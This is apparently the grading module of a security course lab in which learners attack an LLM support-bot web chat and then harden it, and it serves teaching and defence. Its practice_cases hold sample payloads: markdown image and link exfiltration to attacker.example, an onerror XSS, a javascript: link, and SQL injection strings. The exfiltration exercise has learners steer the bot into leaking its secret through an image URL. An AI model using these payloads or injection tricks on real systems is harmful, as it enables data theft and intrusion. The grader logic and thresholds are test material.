"""Lab 04's checks, shared by the notebook's tests (a preview in the learner's kernel)
and the grader (the authoritative score, computed in a fresh process).

Every check is a pure function of the learner's values (or functions that take and
return plain data, so they can be called over the runner's pipe) and, for the grader,
the held-out cases in ``graders/heldout/lab04.jsonl``. What the grader calls per test
cell (``value(N)`` is the learner's value of N, ``function(N)`` a callable for the
learner's function N, ``heldout`` is ``load_cases(heldout_path)``, ``baseline`` is
``read_report`` of :func:`baseline_scan`'s report, made once per course):

=====================  ===============  ===================================================================
test cell grade_id     needs cell       call
=====================  ===============  ===================================================================
test_exfil             exfil            ``check_exfil_message(value("MY_EXFIL_MESSAGE"), learner)``
test_xss               xss              ``check_xss_message(value("MY_XSS_MESSAGE"), learner)``
test_sqli              sqli             ``check_sql_message(value("MY_SQL_MESSAGE"), learner)``
test_scan_reading      scan_answers     ``check_overall_asr(value("OVERALL_ASR"), baseline)``
test_render            hardening        ``check_render(function("render"), heldout)``
test_order_query       hardening        ``check_order_query(function("order_query"), heldout)``
test_csp               hardening        ``check_csp(value("CONTENT_SECURITY_POLICY"))``
test_hardening_asr     hardening        ``h = evaluate_hardening(function("render"), function("order_query"), learner)``
                                        then ``h.asr_check()`` (``h.metrics()`` for the record)
test_hardening_benign  hardening        ``h.benign_check()`` (the same ``h``; the notebook calls
                                        ``check_benign_render(render, LEARNER)``, which is equivalent)
=====================  ===============  ===================================================================

Reasons name the kind of case that failed (its ``label``), never a held-out payload:
reasons reach the learner's feedback. In the learner's kernel the notebook uses
:func:`practice_cases` (packaged, visible) instead of the held-out file.
"""

from __future__ import annotations

import base64
import binascii
import json
import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qsl, unquote_plus, urlsplit

from doubleedge.evaluate import OrdinaryRequest, practice_ordinary
from doubleedge.grading import checks
from doubleedge.grading.checks import Check  # re-exported: the labs' checks return it
from doubleedge.models import ReferenceModel
from doubleedge.scan import ScanReport, reused_scan, scan_for_lab
from doubleedge.target.bot import SupportBot
from doubleedge.target.secrets import derive_secret, grading_secret
from doubleedge.target.server import MAX_MESSAGE_CHARS
from doubleedge.target.webchat import (
    ORDERS,
    SHOP_HOST,
    SIGNED_IN,
    Policy,
    WebChat,
    markdown_to_html,
    run_order_query,
)

LAB = "04"
# garak's ASR on the hardened web chat must stay below this. Unhardened: about 78%;
# the reference solution: 0%. Fixing only the render leaves the SQL and template
# probes (18%); fixing only the query leaves the images, links and XSS (60%); nh3's
# defaults without a host allow-list leave every exfiltration image and link (50%).
# tests/labs/test_lab04_checks.py measures these partial defenses.
ASR_THRESHOLD = 0.10
# At most 5 of the replies to the 50 held-out ordinary questions (graders/heldout/
# lab04.ordinary.jsonl) may render differently: a reply is kept when its rendering shows
# exactly the words the app's own rendering shows (sanitising may change the markup, never
# the words). The reference solution keeps all 50.
BENIGN_THRESHOLD = 0.90
SHOP_HOSTS = frozenset({SHOP_HOST, f"www.{SHOP_HOST}"})
OWN_ORDERS = frozenset(number for number, customer, *_ in ORDERS if customer == SIGNED_IN)

# Elements that fetch, run or navigate on their own, or that change how the page works.
ACTIVE_TAGS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "link",
     "meta", "base", "form", "input", "button", "textarea", "select", "video", "audio", "source", "track",
     "template", "portal"}
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"src", "href", "action", "formaction", "data", "poster", "background", "srcset", "xlink:href", "ping",
     "cite", "longdesc", "lowsrc", "dynsrc", "manifest", "codebase", "srcdoc"}
)  # fmt: skip
SAME_TAG = {"b": "strong", "i": "em"}


# Reading HTML the way a page would ------------------------------------------------------


@dataclass
class Element:
    tag: str
    attrs: dict[str, str]
    text: str = ""


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.open: list[Element] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = Element(tag, {k.lower(): (v or "") for k, v in attrs})
        self.elements.append(element)
        if tag not in ("img", "br", "hr", "input", "meta", "link", "base", "source", "track", "embed"):
            self.open.append(element)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, {k.lower(): (v or "") for k, v in attrs}))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.open) - 1, -1, -1):
            if self.open[i].tag == tag:
                del self.open[i:]
                break

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        for element in self.open:
            element.text += data


def parse_html(html: str) -> tuple[list[Element], str]:
    """The elements of an HTML fragment and its visible text (whitespace collapsed)."""
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements, " ".join("".join(parser.text).split())


def resolve(url: str) -> tuple[str, str]:
    """(scheme, host) of a URL as a browser reads it; ("", "") for a path on the page's own origin."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))  # C0 controls and space
    cleaned = cleaned.replace("\\", "/")
    if cleaned.startswith("//"):
        cleaned = "https:" + cleaned
    scheme_match = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    if not scheme_match:
        return "", ""
    parts = urlsplit(cleaned)
    return scheme_match.group(1).lower(), (parts.hostname or "").lower()


def url_allowed(url: str) -> bool:
    """Same origin, or http(s) on the shop's own hosts."""
    scheme, host = resolve(url)
    return (scheme, host) == ("", "") or (scheme in ("http", "https") and host in SHOP_HOSTS)


def dangers(html: str) -> list[str]:
    """What in the HTML would fetch from elsewhere, run code or change the page (empty: inert)."""
    found = []
    elements, _ = parse_html(html)
    for element in elements:
        if element.tag in ACTIVE_TAGS:
            found.append(f"a <{element.tag}> element")
        for name, value in element.attrs.items():
            if name.startswith("on"):
                found.append("an event handler attribute")
            elif name in URL_ATTRIBUTES:
                urls = [u.strip().split()[0] for u in value.split(",") if u.strip()] if name == "srcset" else [value]
                if name == "srcdoc" or not all(url_allowed(u) for u in urls):
                    found.append(f"a {name} pointing outside the shop")
            elif name == "style" and re.search(r"url\s*\(|expression\s*\(|@import", value, re.I):
                found.append("a style that loads a URL")
    return found


# Exercises 1-3: attacks by hand on the unhardened app -------------------------------------


def fresh_app(learner: str, policy: Policy | None = None) -> WebChat:
    return WebChat(SupportBot(ReferenceModel(), secret=derive_secret(learner)), policy or Policy())


def _message(value: object, name: str) -> str:
    if not isinstance(value, str) or not value.strip() or len(value) > MAX_MESSAGE_CHARS:
        raise ValueError(f"{name} must be a non-empty string of at most {MAX_MESSAGE_CHARS} characters")
    return value


def carries(url: str, secret: str) -> bool:
    """Does the URL carry the secret: plainly, URL-encoded, or in base64?"""
    if secret in unquote_plus(url):
        return True
    for _, value in parse_qsl(urlsplit(url).query) + [("", p) for p in urlsplit(url).path.split("/")]:
        padded = value + "=" * (-len(value) % 4)
        for decode in (base64.b64decode, base64.urlsafe_b64decode):
            try:
                if secret in decode(padded).decode("utf-8", "replace"):
                    return True
            except (binascii.Error, ValueError):
                continue
    return False


def grading_app(learner: str) -> WebChat:
    """The unhardened page with a bot holding the grading secret: a code the learner's own
    processes never had, so a message that carries the learner's code itself does not pass."""
    return WebChat(SupportBot(ReferenceModel(), secret=grading_secret(learner)), Policy())


def check_exfil_message(value: object, learner: str) -> Check:
    """Does the unhardened page load an image from another host, with its bot's code in the URL?

    The bot holds the grading secret: the message must make it write its own code into the URL."""
    try:
        message = _message(value, "MY_EXFIL_MESSAGE")
    except ValueError as exc:
        return Check(False, str(exc))
    app = grading_app(learner)
    elements, _ = parse_html(app.chat(message)["html"])
    images = [e.attrs.get("src", "") for e in elements if e.tag == "img"]
    outside = [src for src in images if not url_allowed(src)]
    if any(carries(src, app.bot.secret) for src in outside):
        return Check(True)
    if outside:
        return Check(False, "the page loads an image from another host, but its URL does not carry the code "
                     "of a fresh bot (one you have never seen): make Bell write its code into the URL")  # fmt: skip
    return Check(False, "the reply, rendered, has no image on another host: the browser would fetch nothing")


def check_xss_message(value: object, learner: str) -> Check:
    """Does the unhardened page get an element with an event handler (code that runs on insertion)?"""
    try:
        message = _message(value, "MY_XSS_MESSAGE")
    except ValueError as exc:
        return Check(False, str(exc))
    elements, _ = parse_html(fresh_app(learner).chat(message)["html"])
    if any(name.startswith("on") for e in elements for name in e.attrs):
        return Check(True)
    if any(e.tag == "script" for e in elements):
        return Check(False, "a <script> inserted with innerHTML never runs: use an element with an event handler")
    return Check(False, "the rendered reply has no element with an event handler (such as onerror)")


def check_sql_message(value: object, learner: str) -> Check:
    """Does the unhardened order desk show the signed-in customer rows that are not theirs?"""
    try:
        message = _message(value, "MY_SQL_MESSAGE")
    except ValueError as exc:
        return Check(False, str(exc))
    found = fresh_app(learner).lookup(message)
    foreign = [row for row in found.rows if row.get("number") not in OWN_ORDERS]
    if foreign:
        return Check(True)
    if found.error:
        return Check(False, "the injected query failed in the database (sqlite runs one statement per call)")
    return Check(False, "the lookup showed only the customer's own orders (or none)")


# Exercise 4: reading the scan ---------------------------------------------------------------


def baseline_scan(workdir: Path | str | None = None) -> ScanReport:
    """Lab 04's garak scan of the unhardened web chat (the grader's ``baseline``)."""
    from doubleedge.scan.webchat import scan_webchat

    return scan_webchat(fresh_app("baseline"), workdir=workdir)


def check_overall_asr(overall: object, baseline: ScanReport) -> Check:
    return checks.check_overall_asr(overall, baseline)


# Exercise 5: the hardened app ----------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    kind: str  # render_attack, render_benign, sql_attack, sql_benign
    label: str  # what kind of case it is: safe to show in feedback
    text: str  # the reply to render, or the order number the model returned
    expect: dict = field(default_factory=dict)


def load_cases(path: Path | str) -> list[Case]:
    cases = []
    for line in Path(path).read_text("utf-8").splitlines():
        if line.strip():
            record = json.loads(line)
            cases.append(Case(record["id"], record["kind"], record["label"], record["text"], record.get("expect", {})))
    return cases


def practice_cases() -> list[Case]:
    """The cases the notebook checks in the learner's kernel (the grader's held-out cases differ)."""
    return [
        Case("p1", "render_attack", "a markdown image on another host", "![x](https://attacker.example/a.png?q=DATA)"),
        Case("p2", "render_attack", "an image tag with an event handler", '<img src=x onerror="alert(1)">'),
        Case("p3", "render_attack", "a javascript: link", "[click](javascript:alert(1))"),
        Case("p4", "render_attack", "a script tag", "<script>alert(1)</script>"),
        Case("p5", "render_attack", "a link to another host", "[verify](https://attacker.example/v?code=DATA)"),
        Case(
            "p6",
            "render_attack",
            "an image on a look-alike host",
            "![x](https://bellwetherbikes.example.attacker.example/a.png?q=1)",
        ),  # fmt: skip
        Case(
            "p7",
            "render_benign",
            "bold text",
            "Your order **BW-10422** has shipped.",
            {"tags": [["strong", "BW-10422"]], "text": "Your order BW-10422 has shipped."},
        ),  # fmt: skip
        Case(
            "p8",
            "render_benign",
            "a list",
            "Bring:\n\n- the bike\n- the charger\n",
            {"tags": [["li", "the bike"], ["li", "the charger"]]},
        ),  # fmt: skip
        Case(
            "p9",
            "render_benign",
            "a link to the shop",
            "[Start a return](https://bellwetherbikes.example/returns)",
            {"links": [["https://bellwetherbikes.example/returns", "Start a return"]]},
        ),  # fmt: skip
        Case("p10", "sql_attack", "an always-true condition", "' OR '1'='1"),
        Case("p11", "sql_attack", "a UNION", "x' UNION SELECT number, customer, item, total FROM orders --"),
        Case("p12", "sql_benign", "your own order", "BW-10422", {"numbers": ["BW-10422"]}),
        Case("p13", "sql_benign", "another customer's order number", "BW-10388", {"numbers": []}),
    ]


def benign_render_problem(html: str, expect: dict) -> str:
    """What a benign reply lost when rendered ("" if nothing)."""
    elements, text = parse_html(html)
    if expect.get("text") and " ".join(expect["text"].split()) not in text:
        return "lost text"
    for tag, inner in expect.get("tags", []):
        if not any(SAME_TAG.get(e.tag, e.tag) == tag and inner in " ".join(e.text.split()) for e in elements):
            return f"lost its <{tag}> formatting"
    for href, inner in expect.get("links", []):
        if not any(e.tag == "a" and e.attrs.get("href") == href and inner in e.text for e in elements):
            return "lost a link to the shop"
    return ""


def check_render(render: Callable[[str], str], cases: Iterable[Case]) -> Check:
    """Attacks come out inert; benign replies keep their text, formatting and shop links."""
    for case in cases:
        if not case.kind.startswith("render_"):
            continue
        try:
            html = render(case.text)
        except Exception as exc:  # learner code: report, never crash the grader
            return Check(False, f"render raised {type(exc).__name__} on a reply with {case.label}")
        if not isinstance(html, str):
            return Check(False, "render must return a string of HTML")
        if case.kind == "render_attack":
            found = dangers(html)
            if found:
                return Check(False, f"render let through {found[0]}, from a reply with {case.label}")
        else:
            problem = benign_render_problem(html, case.expect)
            if problem:
                return Check(False, f"a harmless reply with {case.label} {problem}")
    return Check(True)


def check_order_query(order_query: Callable[[str, str], object], cases: Iterable[Case]) -> Check:
    """The model's answer never becomes SQL code; the customer still finds their own orders."""
    for case in cases:
        if not case.kind.startswith("sql_"):
            continue
        try:
            built = order_query(SIGNED_IN, case.text)
        except Exception as exc:
            return Check(False, f"order_query raised {type(exc).__name__} on {case.label}")
        if not isinstance(built, (list, tuple)) or len(built) != 2 or not isinstance(built[0], str):
            return Check(False, "order_query must return (statement, params)")
        statement, params = built
        if case.text.strip() and case.text.strip() in statement:
            return Check(False, f"the order number is part of the SQL statement ({case.label}): pass it as a parameter")
        rows, error = run_order_query(statement, params)
        if error:
            return Check(False, f"the query failed on {case.label}: {error[:80]}")
        numbers = sorted(str(row.get("number")) for row in rows)
        if case.kind == "sql_attack" and numbers:
            return Check(False, f"the lookup returned rows for {case.label}")
        if case.kind == "sql_benign" and numbers != sorted(case.expect.get("numbers", [])):
            return Check(False, f"the lookup of {case.label} returned the wrong orders (select the number column)")
    return Check(True)


def csp_directives(policy: str) -> dict[str, list[str]]:
    directives: dict[str, list[str]] = {}
    for part in policy.split(";"):
        words = part.split()
        if words and words[0].lower() not in directives:  # the first occurrence wins, as in browsers
            directives[words[0].lower()] = [w.lower() for w in words[1:]]
    return directives


def check_csp(policy: object) -> Check:
    """A CSP that stops inline script and off-site images and requests, and still lets the page work."""
    if not isinstance(policy, str) or not policy.strip() or "\n" in policy or "\r" in policy:
        return Check(False, "CONTENT_SECURITY_POLICY must be a one-line string")
    directives = csp_directives(policy)

    def effective(name: str) -> list[str] | None:
        return directives.get(name, directives.get("default-src"))

    shop = {f"https://{h}" for h in SHOP_HOSTS} | {f"https://{h}/" for h in SHOP_HOSTS}
    script = effective("script-src")
    if script is None:
        return Check(False, "set script-src (or default-src)")
    if any(s in ("'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:", "data:", "blob:") for s in script):
        return Check(False, "script-src must not allow inline script, eval, data: or any host")
    if "'self'" not in script:
        return Check(False, "script-src must allow 'self': the page loads /app.js")
    for name in ("img-src", "connect-src"):
        sources = effective(name)
        if sources is None:
            return Check(False, f"set {name} (or default-src)")
        extra = [s for s in sources if s not in ("'self'", "'none'", "data:") and s not in shop]
        if extra:
            return Check(False, f"{name} allows sources beyond 'self' and the shop: {extra[0]}")
    if "'self'" not in effective("connect-src"):
        return Check(False, "connect-src must allow 'self': the page posts to /chat")
    return Check(True)


@dataclass(frozen=True)
class Hardening:
    garak: ScanReport
    benign_total: int
    benign_failures: tuple[str, ...]

    @property
    def benign_rate(self) -> float:
        return 1 - len(self.benign_failures) / self.benign_total if self.benign_total else 0.0

    def asr_check(self) -> Check:
        rate = self.garak.overall_attack_success_rate
        if rate < ASR_THRESHOLD:
            return Check(True)
        return Check(False, f"garak's attack success rate {rate:.1%} is not below {ASR_THRESHOLD:.0%}")

    def benign_check(self) -> Check:
        if self.benign_rate >= BENIGN_THRESHOLD:
            return Check(True)
        return Check(
            False, f"only {self.benign_rate:.0%} of ordinary replies rendered whole (need {BENIGN_THRESHOLD:.0%})"
        )

    def metrics(self) -> dict:
        return {
            "garak_asr": round(self.garak.overall_attack_success_rate, 4),
            "benign_render_rate": round(self.benign_rate, 4),
        }


def visible_words(html: str) -> str:
    return " ".join(parse_html(html)[1].split())


def benign_render_failures(render: Callable[[str], str], learner: str,
                           requests: tuple[OrdinaryRequest, ...] | None = None) -> tuple[int, tuple[str, ...]]:  # fmt: skip
    """The ordinary requests (the published ones when None) whose replies, rendered by ``render``,
    do not show exactly the words the app's own rendering shows. Lab 04's allowed difference
    is the sanitised rendering: markup may change, the visible words may not (a fixed page
    holding every answer fails, as does a render that drops words). Failures are request ids."""
    bot = fresh_app(learner).bot
    requests = practice_ordinary() if requests is None else requests
    failures = []
    for request in requests:
        reply = bot.reply(request.question)
        try:
            html = render(reply)
            got = visible_words(html) if isinstance(html, str) else None
        except Exception:
            got = None
        if got != visible_words(markdown_to_html(reply)):
            failures.append(request.id)
    return len(requests), tuple(failures)


def check_benign_render(render: Callable[[str], str], learner: str) -> Check:
    """At least BENIGN_THRESHOLD of the published ordinary replies render with the same visible words."""
    total, failures = benign_render_failures(render, learner)
    rate = 1 - len(failures) / total
    if rate >= BENIGN_THRESHOLD:
        return Check(True)
    return Check(False, f"only {rate:.0%} of ordinary replies rendered whole (need {BENIGN_THRESHOLD:.0%})")


def hardened_app(render: Callable[[str], str], order_query: Callable[[str, str], object], learner: str) -> WebChat:
    return fresh_app(learner, Policy("learner", render, order_query))


def evaluate_hardening(render: Callable[[str], str], order_query: Callable[[str, str], object], learner: str,
                       workdir: Path | str | None = None,
                       ordinary: tuple[OrdinaryRequest, ...] | None = None,
                       scanned: ScanReport | None = None) -> Hardening:  # fmt: skip
    """Lab 04's garak scan of the web chat with the learner's render and query, and the replies
    to the ordinary questions (the held-out ones when grading; the published ones when None).
    ``scanned``: the learner's own re-scan of this app, which the preview reads instead of
    scanning again (the grader always scans)."""
    from doubleedge.scan.webchat import scan_webchat

    spec = scan_for_lab(LAB)
    if scanned is None:
        report = scan_webchat(hardened_app(render, order_query, learner), spec, workdir)
    else:
        report = reused_scan(scanned, spec)
    total, failures = benign_render_failures(render, learner, ordinary)
    return Hardening(report, total, failures)
